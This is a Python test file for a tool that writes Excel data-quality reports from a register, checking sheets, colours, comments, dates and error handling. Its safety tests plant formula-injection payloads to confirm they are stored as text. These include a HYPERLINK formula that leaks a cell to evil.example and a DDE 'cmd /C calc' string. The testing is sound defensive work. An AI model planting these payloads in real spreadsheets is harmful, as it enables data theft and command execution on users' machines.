"""The quality report workbook, read back with openpyxl as Excel would open it.

The main input is the real sample register (tests/data/whanau_register.xlsx) checked with the mapping of
expected.json; small CSV files written here cover formula injection and a clean list.
"""

from __future__ import annotations

import datetime as dt
import zipfile
from collections import defaultdict
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from openpyxl.worksheet import _writer as openpyxl_sheet_writer

from core.checking import report, report_sheets
from core.checking.check import CheckResult, run_check
from core.checking.report import write_report
from core.checking.report_sheets import PROBLEM_HEADERS, SHEET_DATA, SHEET_PROBLEMS, SHEET_SUMMARY
from core.checking.report_writer import DATE_FORMAT, MAX_WIDTH, SEVERITY_COLOURS
from core.checking.rules import RULES, SEVERITIES
from core.errors import InputError
from core.profile import profile_from_dict
from core.reading.sources import read_table
from core.reading.table import CellKind

SAMPLE = "whanau_register.xlsx"
PLANTED_TEXTS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+1",
    "+64 21 555",
    "-5",
    "@SUM(A1)",
    "\tTabbed",
    "#DIV/0!",
)


@pytest.fixture(scope="module")
def checked(expected: dict, data_dir: Path) -> CheckResult:
    spec = expected["files"][SAMPLE]
    profile = profile_from_dict(
        {
            "format": 1,
            "name": "Whānau register",
            "mapping": spec["mapping"],
            "identifier_type": spec["id_type"],
        }
    )
    table = read_table(data_dir / SAMPLE, sheet=spec["sheet"])
    return run_check(table, profile, dt.date.fromisoformat(expected["as_of"]))


@pytest.fixture(scope="module")
def report_path(checked: CheckResult, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_report(checked, tmp_path_factory.mktemp("report") / "quality report.xlsx")


@pytest.fixture(scope="module")
def book(report_path: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(report_path)


def data_cell(book: openpyxl.Workbook, result: CheckResult, position: int, header: str | None):
    """The Data sheet cell for a table row position and a column header (None: the Row cell)."""
    sheet = book[SHEET_DATA]
    headers = [cell.value for cell in sheet[1]]
    line = int(np.searchsorted(result.positions, position)) + 2
    return sheet.cell(row=line, column=headers.index(header) + 1 if header else 1)


def issue_groups(result: CheckResult) -> dict[tuple[int, str | None], list[dict]]:
    groups: dict[tuple[int, str | None], list[dict]] = defaultdict(list)
    for issue in result.issues.to_dict("records"):
        groups[(issue["position"], issue["column"])].append(issue)
    return groups


def fill_colour(cell) -> str:
    return str(cell.fill.fgColor.rgb)[-6:] if cell.fill.fill_type == "solid" else ""


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    def quoted(value: str) -> str:
        return '"' + value.replace('"', '""') + '"'

    path.write_text("\n".join(",".join(quoted(v) for v in row) for row in rows) + "\n", encoding="utf-8")
    return path


def check_csv(path: Path, mapping: dict[str, str], extra: list[str] | None = None) -> CheckResult:
    profile = profile_from_dict(
        {"format": 1, "name": "Test list", "mapping": mapping, "extra_columns": extra or []}
    )
    return run_check(read_table(path), profile, dt.date(2026, 11, 1))


# ---- the sheets --------------------------------------------------------------------------------------


def test_summary_data_and_problems_sheets_with_summary_open_first(book) -> None:
    assert book.sheetnames == [SHEET_SUMMARY, SHEET_DATA, SHEET_PROBLEMS]
    assert book.active.title == SHEET_SUMMARY


def test_data_header_is_row_then_only_the_mapped_columns_in_sheet_order(book, checked, expected) -> None:
    mapped = set(expected["files"][SAMPLE]["mapping"].values())
    header = [cell.value for cell in book[SHEET_DATA][1]]
    assert header == ["Row", *[h for h in checked.table.headers if h in mapped]]
    assert "Notes" in checked.table.headers and "Notes" not in header


def test_no_value_of_an_unmapped_column_reaches_the_report(book, checked, expected) -> None:
    mapped = set(expected["files"][SAMPLE]["mapping"].values())
    unmapped = {
        value
        for column in checked.table.columns
        if column.header not in mapped
        for value in column.values
        if isinstance(value, str) and len(value) > 3
    }
    assert unmapped, "the sample should have notes and client ids to leave out"
    written = {cell.value for sheet in book for line in sheet.iter_rows() for cell in line}
    assert not unmapped & written


def test_row_column_holds_the_row_numbers_the_user_sees(book, checked) -> None:
    rows = [line[0].value for line in book[SHEET_DATA].iter_rows(min_row=2)]
    assert rows == checked.table.row_numbers[checked.positions].tolist()


def test_the_colours_are_explained_in_the_catalogue_words_with_how_many_of_each(book, checked) -> None:
    lines = [[cell.value for cell in line] for line in book[SHEET_SUMMARY].iter_rows()]
    counts = checked.summary()
    for severity in SEVERITIES.values():
        assert [severity.label, counts[severity.id], severity.meaning] in [line[:3] for line in lines]


def test_each_comment_names_its_problems_with_the_catalogue_label(book, checked) -> None:
    issues = checked.issues.dropna(subset=["column"])
    for severity in SEVERITIES.values():
        issue = issues[issues["severity"] == severity.id].iloc[0]
        comment = data_cell(book, checked, issue["position"], issue["column"]).comment.text
        assert f"{severity.label}: {issue['message']}" in comment


def test_a_planted_error_cell_is_filled_red_with_the_catalogue_message_and_fix(
    book, checked, expected
) -> None:
    planted = {(p["row"], p["rule"]) for p in expected["files"][SAMPLE]["expected"]}
    errors = checked.issues[
        (checked.issues["severity"] == "error") & checked.issues["column"].notna()
    ].to_dict("records")
    issue = next(i for i in errors if (i["row"], i["rule"]) in planted)
    cell = data_cell(book, checked, issue["position"], issue["column"])
    rule = RULES[issue["rule"]]
    assert fill_colour(cell) == SEVERITY_COLOURS["error"]
    assert rule.message_for(issue["field"], checked.identifier_type) in cell.comment.text
    assert rule.how_to_fix_for(issue["field"], checked.identifier_type) in cell.comment.text


def test_every_problem_cell_has_its_worst_colour_and_every_message_in_one_comment(book, checked) -> None:
    groups = issue_groups(checked)
    assert any(len(found) > 1 for found in groups.values()), "the sample has a cell with two problems"
    for (position, header), found in groups.items():
        cell = data_cell(book, checked, position, header)
        worst = min((i["severity"] for i in found), key=["error", "warning", "info"].index)
        assert fill_colour(cell) == SEVERITY_COLOURS[worst]
        for issue in found:
            assert issue["message"] in cell.comment.text


def test_cells_without_problems_have_no_colour_and_no_comment(book, checked) -> None:
    marked = {
        (line[0].row, cell.column)
        for line in book[SHEET_DATA].iter_rows(min_row=2)
        for cell in line
        if cell.comment is not None or cell.fill.fill_type is not None
    }
    assert len(marked) == len(issue_groups(checked))


def test_row_level_problems_mark_the_row_cell(book, checked) -> None:
    whole_row = checked.issues[checked.issues["column"].isna()].to_dict("records")
    assert whole_row, "the sample has unlinkable and repeated rows"
    for issue in whole_row:
        cell = data_cell(book, checked, issue["position"], None)
        assert cell.value == issue["row"]
        assert issue["message"] in cell.comment.text


def test_date_cells_are_real_dates_shown_day_first_and_text_stays_text(book, checked) -> None:
    column = checked.table.find_column(checked.columns["date_of_birth"])
    kinds = column.kinds[checked.positions]
    real = int(np.flatnonzero(kinds == CellKind.DATE)[0])
    typed = int(np.flatnonzero(kinds == CellKind.TEXT)[0])
    real_cell = data_cell(book, checked, checked.positions[real], column.header)
    typed_cell = data_cell(book, checked, checked.positions[typed], column.header)
    assert real_cell.is_date and real_cell.number_format == DATE_FORMAT
    source = column.values[checked.positions[real]]
    assert real_cell.value.date() == (source.date() if isinstance(source, dt.datetime) else source)
    assert typed_cell.data_type == "s" and typed_cell.value == column.values[checked.positions[typed]]


def test_number_cells_stay_numbers(book, checked) -> None:
    found = [
        (column.header, int(position))
        for column in checked.table.columns
        if column.header in checked.columns.values()
        for position in checked.positions[column.kinds[checked.positions] == CellKind.NUMBER]
    ]
    assert found, "the sample has a date typed as a plain number"
    for header, position in found:
        cell = data_cell(book, checked, position, header)
        assert cell.data_type == "n" and cell.value == checked.table.find_column(header).values[position]


def test_headers_are_frozen_and_filters_on(book, checked) -> None:
    data, problems = book[SHEET_DATA], book[SHEET_PROBLEMS]
    assert data.freeze_panes == "B2"
    assert data.auto_filter.ref == f"A1:{get_column_letter(data.max_column)}{checked.rows + 1}"
    assert problems.freeze_panes == "A2"
    assert problems.auto_filter.ref == f"A1:G{len(checked.issues) + 1}"


def test_every_column_has_a_width_that_follows_its_content(book) -> None:
    for sheet in book:
        for index in range(1, sheet.max_column + 1):
            assert sheet.column_dimensions[get_column_letter(index)].customWidth, (sheet.title, index)
    data = book[SHEET_DATA]
    header = [cell.value for cell in data[1]]
    birth = get_column_letter(header.index("Date of Birth") + 1)
    assert data.column_dimensions["A"].width < data.column_dimensions[birth].width


def test_a_very_long_value_does_not_make_its_column_wider_than_the_cap(tmp_path: Path) -> None:
    source = write_csv(
        tmp_path / "long.csv",
        [["Given", "Family", "DOB", "Gender", "Team"], ["Aroha", "Ngata", "03/04/1985", "F", "x" * 300]],
    )
    mapping = {"first_name": "Given", "last_name": "Family", "date_of_birth": "DOB", "gender": "Gender"}
    book = openpyxl.load_workbook(write_report(check_csv(source, mapping, ["Team"]), tmp_path / "long.xlsx"))
    assert book[SHEET_DATA]["F2"].value == "x" * 300
    assert book[SHEET_DATA].column_dimensions["F"].width == MAX_WIDTH


def test_problems_lists_every_issue_by_row_errors_first(book, checked) -> None:
    sheet = book[SHEET_PROBLEMS]
    assert [cell.value for cell in sheet[1]] == list(PROBLEM_HEADERS)
    lines = [[cell.value for cell in line] for line in sheet.iter_rows(min_row=2)]
    assert len(lines) == len(checked.issues)
    order = {severity.label: rank for rank, severity in enumerate(SEVERITIES.values())}
    keys = [(line[0], order[line[1]]) for line in lines]
    assert keys == sorted(keys)
    written = sorted((line[0], line[6], line[2]) for line in lines)
    assert written == sorted(
        zip(checked.issues["row"], checked.issues["rule"], checked.issues["message"], strict=True)
    )
    for line in lines:
        rule = RULES[line[6]]
        assert line[1] == SEVERITIES[rule.severity].label
        assert line[5] in {rule.how_to_fix_for(f, checked.identifier_type) for f in (*checked.columns, None)}


def test_summary_has_the_headline_the_counts_and_only_the_rules_that_fired(book, checked) -> None:
    cells = [
        cell.value for line in book[SHEET_SUMMARY].iter_rows() for cell in line if cell.value is not None
    ]
    assert checked.headline() in cells
    assert Path(checked.table.path).name in cells and checked.table.sheet in cells
    counts = checked.summary()
    for label, count in (
        ("Rows checked", checked.rows),
        ("Rows that must be fixed", int(checked.has_error.sum())),
        *((severity.label, counts[severity.id]) for severity in SEVERITIES.values()),
    ):
        assert cells[cells.index(label) + 1] == count
    fired = set(checked.issues["rule"])
    listed = {value for value in cells if value in RULES}
    assert listed == fired


# ---- safety ------------------------------------------------------------------------------------------


def test_values_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
    rows = [["Given", "Family", "DOB", "Gender", "=cmd|' /C calc'!A0"]]
    rows += [[text, "Ngata", "03/04/1985", "F", text] for text in PLANTED_TEXTS]
    source = write_csv(tmp_path / "planted.csv", rows)
    mapping = {"first_name": "Given", "last_name": "Family", "date_of_birth": "DOB", "gender": "Gender"}
    result = check_csv(source, mapping, extra=["=cmd|' /C calc'!A0"])
    path = write_report(result, tmp_path / "planted.xlsx")

    book = openpyxl.load_workbook(path)
    texts = [
        cell for sheet in book for line in sheet.iter_rows() for cell in line if isinstance(cell.value, str)
    ]
    for text in [*PLANTED_TEXTS, "=cmd|' /C calc'!A0"]:
        assert any(cell.value == text for cell in texts), text
    assert all(cell.data_type == "s" for cell in texts)  # never "f" (formula) nor "e" (error cell)
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, name


def test_a_clean_list_says_no_problems_found(tmp_path: Path) -> None:
    source = write_csv(
        tmp_path / "clean.csv",
        [
            ["Given", "Family", "DOB", "Gender"],
            ["Aroha", "Ngata", "03/04/1985", "F"],
            ["Wiremu", "Tūhoe", "1990-12-25", "M"],
        ],
    )
    result = check_csv(
        source, {"first_name": "Given", "last_name": "Family", "date_of_birth": "DOB", "gender": "Gender"}
    )
    assert not len(result.issues)
    book = openpyxl.load_workbook(write_report(result, tmp_path / "clean.xlsx"))
    summary = [cell.value for line in book[SHEET_SUMMARY].iter_rows() for cell in line]
    assert "No problems found." in summary and result.headline() in summary
    assert book[SHEET_PROBLEMS].max_row == 1
    assert [line[3].value for line in book[SHEET_DATA].iter_rows(min_row=2)] == ["03/04/1985", "1990-12-25"]


def test_no_part_of_the_report_is_written_to_the_system_temp_folder(checked, tmp_path, monkeypatch) -> None:
    made: list[str] = []
    original = openpyxl_sheet_writer.create_temporary_file

    def spy(suffix: str = "") -> str:
        name = original(suffix)
        made.append(name)
        return name

    monkeypatch.setattr(openpyxl_sheet_writer, "create_temporary_file", spy)
    write_report(checked, tmp_path / "report.xlsx")
    assert made == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.xlsx"]


# ---- where it is written -----------------------------------------------------------------------------


def test_a_missing_folder_is_an_input_error(checked, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="does not exist"):
        write_report(checked, tmp_path / "no such folder" / "report.xlsx")


def test_a_folder_as_target_is_an_input_error(checked, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="is a folder"):
        write_report(checked, tmp_path)


def test_a_report_open_in_excel_is_an_input_error_and_stays_as_it_was(checked, tmp_path, monkeypatch) -> None:
    target = tmp_path / "report.xlsx"
    target.write_bytes(b"the earlier report")

    def locked(source: str, destination: Path) -> None:  # what Windows does while Excel holds the file
        raise PermissionError(13, "The process cannot access the file", str(destination))

    monkeypatch.setattr(report.os, "replace", locked)
    with pytest.raises(InputError, match="open in another program"):
        write_report(checked, target)
    assert target.read_bytes() == b"the earlier report"
    assert [p.name for p in tmp_path.iterdir()] == ["report.xlsx"]


def test_writing_again_replaces_the_earlier_report(checked, report_path: Path, tmp_path: Path) -> None:
    target = tmp_path / "report.xlsx"
    target.write_bytes(b"old")
    write_report(checked, target)
    assert zipfile.is_zipfile(target)
    assert openpyxl.load_workbook(target).sheetnames == openpyxl.load_workbook(report_path).sheetnames


# ---- very long lists ---------------------------------------------------------------------------------


def test_past_the_comment_limit_cells_are_coloured_only_and_the_summary_says_so(
    checked, tmp_path, monkeypatch
) -> None:
    monkeypatch.setattr(report_sheets, "COMMENT_LIMIT", 3)
    book = openpyxl.load_workbook(write_report(checked, tmp_path / "report.xlsx"))
    cells = [cell for line in book[SHEET_DATA].iter_rows(min_row=2) for cell in line]
    assert sum(cell.comment is not None for cell in cells) == 3
    assert sum(cell.fill.fill_type == "solid" for cell in cells) == len(issue_groups(checked))
    summary = [cell.value for line in book[SHEET_SUMMARY].iter_rows() for cell in line]
    assert any(isinstance(v, str) and "Only the first 3 coloured cells" in v for v in summary)
    assert book[SHEET_PROBLEMS].max_row == len(checked.issues) + 1


def test_lines_beyond_the_sheet_row_limit_are_left_out_and_the_summary_says_so(
    checked, tmp_path, monkeypatch
) -> None:
    monkeypatch.setattr(report_sheets, "EXCEL_MAX_ROWS", 11)
    book = openpyxl.load_workbook(write_report(checked, tmp_path / "report.xlsx"))
    assert book[SHEET_DATA].max_row == 11 and book[SHEET_PROBLEMS].max_row == 11
    summary = [cell.value for line in book[SHEET_SUMMARY].iter_rows() for cell in line]
    note = f"{checked.rows - 10:,} data rows and {len(checked.issues) - 10:,} problems"
    assert any(isinstance(v, str) and note in v for v in summary)
